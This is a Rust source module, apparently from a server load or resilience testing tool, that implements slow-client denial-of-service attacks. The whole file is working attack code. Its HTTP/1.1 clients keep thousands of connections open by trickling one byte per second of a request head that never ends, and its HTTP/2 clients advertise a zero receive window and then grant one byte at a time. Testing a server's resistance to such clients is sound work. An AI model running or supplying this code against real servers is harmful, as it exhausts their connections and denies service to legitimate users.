//! Thousands of clients that take their time: a byte of a request's head, or of an answer, in each second.

use crate::attackers::Counts;
use crate::attacks::Clients;
use crate::floods::{HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE, frame, window};
use load::client::Target;
use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::Ordering::Relaxed;
use std::thread;
use std::time::{Duration, Instant};

/// Between two steps of one client.
const PAUSE: Duration = Duration::from_secs(1);
const END_STREAM_AND_HEADERS: u8 = 5;

/// Keeps so many connections, each of which makes a step in each second.
pub fn keep(clients: Clients, target: &Target, connections: usize, counts: &Counts) {
    let mut all: Vec<Option<Client>> = (0..connections).map(|_| None).collect();
    // The first time as fast as they are accepted.
    let mut due = Instant::now();
    for n in (0..connections).cycle() {
        let client = &mut all[n];
        if counts.open.load(Relaxed) == connections as u64 {
            thread::sleep(due.saturating_duration_since(Instant::now()));
            due = due.max(Instant::now() - PAUSE) + PAUSE / connections as u32;
        } else {
            due = Instant::now();
        }
        let was_open = client.is_some();
        let done = match client {
            Some(open) => open.step(clients),
            None => Client::connect(clients, target).map(|open| *client = Some(open)),
        };
        match done {
            Ok(()) => _ = counts.sent.fetch_add(1, Relaxed),
            // The server gave it up, as it may; another one takes its place in the next round.
            Err(_) => *client = None,
        }
        match (was_open, client.is_some()) {
            (false, true) => _ = counts.open.fetch_add(1, Relaxed),
            (true, false) => _ = counts.open.fetch_sub(1, Relaxed),
            _ => {}
        }
    }
}

struct Client {
    stream: TcpStream,
    /// Of the head, what was not sent yet, the last byte first.
    rest: Vec<u8>,
}

impl Client {
    fn connect(clients: Clients, target: &Target) -> io::Result<Self> {
        let mut stream = TcpStream::connect_timeout(&target.address, Duration::from_secs(5))?;
        stream.set_nodelay(true)?;
        let mut rest = Vec::new();
        if clients == Clients::SlowReaders {
            let settings = frame(SETTINGS, 0, 0, &window(0));
            let head = frame(HEADERS, END_STREAM_AND_HEADERS, 1, &packed_head(&target.host));
            stream.write_all(&[PREFACE, &settings, &head].concat())?;
        } else {
            rest = format!("GET / HTTP/1.1\r\nhost: {}\r\nx: ", target.host).into_bytes();
            rest.reverse();
        }
        stream.set_nonblocking(true)?;
        Ok(Self { stream, rest })
    }

    fn step(&mut self, clients: Clients) -> io::Result<()> {
        if clients == Clients::SlowReaders {
            self.stream.write_all(&frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()))?;
        } else {
            // The head does not end.
            self.stream.write_all(&[self.rest.pop().unwrap_or(b'a')])?;
        }
        match self.stream.read(&mut [0; 256]) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            Err(error) if error.kind() != ErrorKind::WouldBlock => Err(error),
            _ => Ok(()),
        }
    }
}

/// GET / over http, packed (RFC 7541).
fn packed_head(host: &str) -> Vec<u8> {
    [&[0x82, 0x84, 0x86, 0x41, host.len() as u8], host.as_bytes()].concat()
}
